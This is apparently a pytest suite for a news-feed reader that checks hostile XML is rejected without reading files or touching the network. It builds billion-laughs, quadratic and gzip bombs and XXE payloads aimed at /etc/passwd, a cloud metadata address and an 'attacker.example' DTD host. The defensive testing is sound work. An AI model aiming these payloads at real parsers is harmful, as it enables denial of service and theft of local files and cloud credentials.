"""Hostile input: entity bombs, XXE, compression bombs. Rejected fast, in bounded memory,
without reading a local file or touching the network.

The DTD policy is in transforms/formats/safexml.py: entity declarations that nest, parameter
entities and expansions over budget are ``entity-expansion``; SYSTEM/PUBLIC entities are
``external-entity``; a DOCTYPE with neither is stripped and the document parsed.
"""
from __future__ import annotations

import bz2
import gzip
import json
import socket
import subprocess
import sys
import time
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

import pytest

from newsbeam.schemas import reasons
from newsbeam.schemas.records import Document, Entry, Reject
from newsbeam.transforms.formats.read import Limits, read_document

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ROOT.parent / "shared" / "corpus" / "hostile"
FETCHED = datetime(2026, 11, 25, 12, 0, tzinfo=timezone.utc)
PEAK_RSS_LIMIT_MB = 512

needs_corpus = pytest.mark.skipif(not HOSTILE.is_dir(), reason="../shared/corpus is not present")


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Any attempt to resolve or connect fails the test, not just the read."""
    attempts: list[tuple] = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    yield
    assert not attempts


def read(data: bytes, name: str = "hostile.xml", limits: Limits = Limits()):
    return list(read_document(Document("test", name, data, FETCHED), limits))


def every_string(items) -> str:
    """All text the read produced, rejects' details and excerpts included."""
    parts = []
    for item in items:
        for value in (item.__getattribute__(f) for f in item.__slots__):
            if isinstance(value, str):
                parts.append(value)
            elif isinstance(value, tuple):
                parts.extend(v for v in value if isinstance(v, str))
    return "\n".join(parts)


def lol(levels: int, fanout: int = 10) -> bytes:
    lines = ['<!ENTITY lol0 "lol">']
    for n in range(1, levels):
        lines.append(f'<!ENTITY lol{n} "{("&lol%d;" % (n - 1)) * fanout}">')
    return ('<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(lines) + "\n]>\n"
            f'<rss version="2.0"><channel><item><title>&lol{levels - 1};</title></item>'
            "</channel></rss>").encode()


def quadratic(value_chars: int, refs: int) -> bytes:
    return (f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{"B" * value_chars}">]>'
            f'<rss version="2.0"><channel><item><title>{"&a;" * refs}</title></item>'
            "</channel></rss>").encode()


FEED = '<rss version="2.0"><channel><item><title>{title}</title></item></channel></rss>'


@pytest.mark.parametrize(
    "data, reason",
    [
        (lol(3), reasons.ENTITY_EXPANSION),
        (lol(9), reasons.ENTITY_EXPANSION),
        (lol(9).decode().encode("utf-16"), reasons.ENTITY_EXPANSION),
        (lol(9).decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>')
         .encode("utf-16-le"), reasons.ENTITY_EXPANSION),
        (gzip.compress(lol(9)), reasons.ENTITY_EXPANSION),
        (bz2.compress(lol(9)), reasons.ENTITY_EXPANSION),
        (quadratic(100_000, 1_000), reasons.ENTITY_EXPANSION),
        (b'<!DOCTYPE r [<!ENTITY a "x &b;"><!ENTITY b "&a;">]><rss>&a;</rss>', reasons.ENTITY_EXPANSION),
        # A comment that looks like an element must not hide the DOCTYPE from the screen.
        (b"<!-- <a> -->" + lol(9), reasons.ENTITY_EXPANSION),
        (b'<!DOCTYPE r [<!ENTITY % p "<!ENTITY x \'y\'>"> %p;]><rss/>', reasons.ENTITY_EXPANSION),
        (b'<!ENTITY a "x"><rss>&a;</rss>', reasons.ENTITY_EXPANSION),
        # The same bomb in an HTML page or after junk is screened too.
        (b"<!DOCTYPE html [<!ENTITY a \"&b;&b;\"><!ENTITY b \"bb\">]><html><body><p>&a;</p></body></html>",
         reasons.ENTITY_EXPANSION),
        (FEED.format(title="&x;").replace("<rss", '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss', 1).encode(),
         reasons.EXTERNAL_ENTITY),
        (FEED.format(title="&x;").replace("<rss", '<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X//Y" "http://169.254.169.254/latest/meta-data/">]><rss', 1).encode(),
         reasons.EXTERNAL_ENTITY),
        (b'<!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd"> %d;]><rss/>',
         reasons.EXTERNAL_ENTITY),
        (b'<!DOCTYPE r [<!ENTITY x SYSTEM "data://text/plain;base64,cm9vdDo=">]><rss>&x;</rss>',
         reasons.EXTERNAL_ENTITY),
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_entity_attacks_are_rejected(data, reason):
    start = time.perf_counter()
    items = read(data)
    assert time.perf_counter() - start < 2
    assert [type(i) for i in items] == [Reject]
    assert items[0].reason == reason
    assert "root:" not in every_string(items)


@pytest.mark.parametrize(
    "data, title",
    [
        # DOCTYPEs without entities are stripped and the feed read; their DTD is never fetched.
        (b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
         b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">' + FEED.format(title="n").encode(), "n"),
        (b'<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">' + FEED.format(title="s").encode(), "s"),
        (b'<!DOCTYPE rss [<!ELEMENT rss ANY><!ATTLIST rss version CDATA #IMPLIED>'
         b'<!-- <!ENTITY in a comment> -->]>' + FEED.format(title="e").encode(), "e"),
        # Plain-text entities within the budget are expanded, as XML says.
        (b'<!DOCTYPE rss [<!ENTITY co "Gazette &#38; Co">]>' + FEED.format(title="&co;").encode(),
         "Gazette & Co"),
        (b'<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" '
         b'"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %HTMLlat1;]>'
         + FEED.format(title="caf&eacute;").encode(), "café"),
    ],
)
def test_harmless_doctypes_are_parsed(data, title):
    (entry,) = read(data)
    assert isinstance(entry, Entry) and entry.title == title


def test_local_file_never_leaks(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-TOKEN-42")
    for declaration in (
        f'<!ENTITY x SYSTEM "file://{secret}">',
        f'<!ENTITY x SYSTEM "{secret}">',
        f'<!ENTITY % x SYSTEM "file://{secret}">',
    ):
        data = FEED.format(title="&x;").replace("<rss", f"<!DOCTYPE rss [{declaration}]><rss", 1)
        items = read(data.encode())
        assert "TOP-SECRET-TOKEN-42" not in every_string(items)
        assert [i.reason for i in items] == [reasons.EXTERNAL_ENTITY]


# Every file of ../shared/corpus/hostile that is XML, with the outcome our policy gives it.
CORPUS_EXPECTED = {
    "defusedxml/cyclic.xml": reasons.ENTITY_EXPANSION,
    "defusedxml/quadratic.xml": reasons.ENTITY_EXPANSION,
    "defusedxml/xmlbomb.xml": reasons.ENTITY_EXPANSION,
    "misc/billion_laughs_9level.xml": reasons.ENTITY_EXPANSION,
    "payloadsallthethings/Deny Of Service - Billion Laugh Attack.xml": reasons.ENTITY_EXPANSION,
    "defusedxml/external.xml": reasons.EXTERNAL_ENTITY,
    "defusedxml/external_file.xml": reasons.EXTERNAL_ENTITY,
    "payloadsallthethings/Classic XXE - etc passwd.xml": reasons.EXTERNAL_ENTITY,
    "payloadsallthethings/Classic XXE B64 Encoded.xml": reasons.EXTERNAL_ENTITY,
    # One plain entity used once cannot amplify: expanded, and the document is no feed.
    "defusedxml/xmlbomb2.xml": reasons.NOT_A_FEED,
    # Its external DTD is stripped unread; what is left is no feed.
    "payloadsallthethings/XXE OOB Attack (Yunusov, 2013).xml": reasons.NOT_A_FEED,
    # DOCTYPEs without entities are stripped and the rest parsed.
    "defusedxml/dtd_element.xml": reasons.NOT_A_FEED,
    "defusedxml/dtd.xml": "Entry",  # an XHTML page with the body "text"
    # Broken declaration and an undeclared "rss:" prefix on every element: read without it,
    # and a malformed reject for the document, which is not well-formed (issue 13).
    "fastfeedparser/malformed_rss_namespaced.xml": ("Entry", reasons.MALFORMED),
    # Declares UTF-16, is ASCII: read as what it is.
    "fastfeedparser/utf16_encoded.xml": "Entry",
}


@needs_corpus
def test_corpus_table_is_complete():
    on_disk = {str(p.relative_to(HOSTILE)) for p in HOSTILE.rglob("*.xml")}
    assert on_disk == set(CORPUS_EXPECTED)


@needs_corpus
@pytest.mark.parametrize("name, expected", sorted(CORPUS_EXPECTED.items()))
def test_hostile_corpus(name, expected):
    start = time.perf_counter()
    items = read((HOSTILE / name).read_bytes(), name=name)
    assert time.perf_counter() - start < 2
    got = {"Entry" if isinstance(i, Entry) else i.reason for i in items}
    assert got == (set(expected) if isinstance(expected, tuple) else {expected})
    text = every_string(items)
    assert "root:x:0" not in text and "lollollollollol" * 100 not in text


@needs_corpus
def test_fastfeedparser_undeclared_prefix_feed_reads_its_entries():
    items = read((HOSTILE / "fastfeedparser" / "malformed_rss_namespaced.xml").read_bytes())
    assert [i.reason for i in items if isinstance(i, Reject)] == [reasons.MALFORMED]
    items = [i for i in items if isinstance(i, Entry)]
    assert all(i.recovered for i in items)
    assert [(e.title, e.url) for e in items] == [
        ("Test Entry 1", "https://example.com/entry1"), ("Test Entry 2", "https://example.com/entry2")]
    assert items[0].published == datetime(2024, 1, 1, 12, 0, tzinfo=timezone.utc)


@needs_corpus
def test_fastfeedparser_utf16_mismatch_reads_its_entry():
    (entry,) = read((HOSTILE / "fastfeedparser" / "utf16_encoded.xml").read_bytes())
    assert entry.title == "UTF-16 Entry 1" and entry.url == "https://example.com/entry1"


_MEASURE = """
import json, resource, sys, time
from datetime import datetime, timezone
from newsbeam.schemas.records import Document
from newsbeam.transforms.formats.read import read_document
from tests.memory import peak_rss_mb
data = {load}
start = time.perf_counter()
items = list(read_document(Document("t", "t", data, datetime.now(timezone.utc))))
print(json.dumps({{
    "seconds": time.perf_counter() - start,
    "peak_mb": peak_rss_mb(),
    "reasons": [getattr(i, "reason", "Entry") for i in items],
}}))
"""


def _measure(load: str) -> dict:
    """Read one document in a fresh interpreter; its peak RSS is the read's, not pytest's."""
    out = subprocess.run(
        [sys.executable, "-c", _MEASURE.format(load=load)],
        cwd=ROOT, capture_output=True, text=True, timeout=120, check=True,
    )
    return json.loads(out.stdout)


@needs_corpus
def test_nine_level_billion_laughs_bounded_time_and_memory():
    result = _measure(f"open({str(HOSTILE / 'misc' / 'billion_laughs_9level.xml')!r}, 'rb').read()")
    print("billion laughs, 9 levels:", result)
    assert result["reasons"] == [reasons.ENTITY_EXPANSION]
    assert result["seconds"] < 5
    assert result["peak_mb"] < PEAK_RSS_LIMIT_MB


def test_generated_bombs_bounded_time_and_memory():
    for load, reason in (
        # 10 levels: 3 * 10**9 characters if anything expanded it.
        ("__import__('tests.test_hostile', fromlist=['lol']).lol(10)", reasons.ENTITY_EXPANSION),
        ("__import__('tests.test_hostile', fromlist=['quadratic']).quadratic(1_000_000, 20_000)",
         reasons.ENTITY_EXPANSION),
        # 2 GB of zeros in about 2 MB of gzip: stopped at the 50 MB default cap.
        ("__import__('tests.test_hostile', fromlist=['x'])._gzip_zeros(2 << 30)", reasons.TOO_LARGE),
    ):
        result = _measure(load)
        print(load, result)
        assert result["reasons"] == [reason]
        assert result["seconds"] < 10
        assert result["peak_mb"] < PEAK_RSS_LIMIT_MB


def _gzip_zeros(size: int) -> bytes:
    """``size`` zero bytes as gzip: one 16 MB member repeated (readers must read every member)."""
    member = gzip.compress(b"\0" * (16 << 20), compresslevel=9)
    return member * (size // (16 << 20))


def test_gzip_of_a_bomb_is_decompressed_under_the_cap_first():
    # Decompression stops at the cap before any parser sees a byte.
    items = read(gzip.compress(b"<rss>" + b"A" * (2 << 20) + b"</rss>"), limits=Limits(max_input_bytes=1 << 20))
    assert [i.reason for i in items] == [reasons.TOO_LARGE]


@pytest.mark.slow
def test_feed_at_the_size_cap_reads_in_bounded_memory():
    """A legitimate 45 MB feed (10,000 items, just under both default caps) is read whole."""
    load = ("(lambda para: ('<rss version=\"2.0\"><channel><title>T</title>' + ''.join("
            "f'<item><title>Item {i}</title><link>https://x.example/{i}</link>"
            "<description><![CDATA[{para}]]></description></item>' for i in range(10_000))"
            " + '</channel></rss>').encode())('<p>' + 'The council said the wall would cost"
            " a great deal of money. ' * 55 + '</p>')")
    result = _measure(load)
    print("45 MB feed:", {k: v for k, v in result.items() if k != "reasons"})
    assert result["reasons"] == ["Entry"] * 10_000
    assert result["peak_mb"] < PEAK_RSS_LIMIT_MB


def test_big_broken_feed_is_refused_before_the_slow_recovering_parser():
    # 20 MB of unclosed tags would keep feedparser's pure-Python fallback busy for minutes.
    data = b'<rss version="2.0"><channel><item><title>' + b"<a " * (7 << 20)
    start = time.process_time()
    items = read(data)
    assert [i.reason for i in items] == [reasons.TOO_LARGE]
    assert "not well-formed" in items[0].detail
    assert time.process_time() - start < 5
